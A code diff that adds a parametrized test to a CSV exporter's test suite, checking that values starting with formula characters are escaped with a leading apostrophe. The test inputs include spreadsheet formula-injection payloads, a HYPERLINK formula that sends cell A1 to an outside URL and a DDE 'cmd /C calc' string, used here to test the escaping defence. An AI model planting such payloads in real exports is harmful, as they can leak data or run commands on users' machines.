@@ -92,6 +92,36 @@ async def test_csv_has_a_head_and_a_row_each(tmp_path):
     assert end == ""
 
 
+@pytest.mark.parametrize(
+    ("name", "written"),
+    [
+        ('=HYPERLINK("http://x.org?"&A1)', '\'=HYPERLINK("http://x.org?"&A1)'),
+        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("  =1", "'  =1"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "' =1"),
+        ("\n=1", "' =1"),
+        ("\uff1d1+1", "'\uff1d1+1"),
+        ("'=1", "''=1"),
+        ("a=1", "a=1"),
+        ("+33612345678", "+33612345678"),
+        ("-12.5", "-12.5"),
+    ],
+)
+async def test_no_cell_is_a_formula_to_a_spreadsheet(tmp_path, name, written):
+    one = change(mpid="-7", name=name, identities={"mobile_number": "+33612345678"})
+    for formulas, expected in (("escape", written), ("keep", " ".join(name.splitlines()))):
+        folder = tmp_path / formulas
+        settings = {"directory": str(folder), "format": "csv", "csv_formulas": formulas}
+        async with opened(File, settings, tmp_path) as made:
+            await made.write([one])
+        (row,) = rows(folder)
+        assert (row["audience_name"], row["mpid"]) == (expected, "-7")
+        assert json.loads(row["user_identities"])[0]["identity"] == "+33612345678"
+
+
 async def test_nothing_is_seen_of_a_file_before_it_is_complete(tmp_path):
     async with opened(File, {"directory": str(tmp_path)}, tmp_path) as made:
         await made.write(some(3))
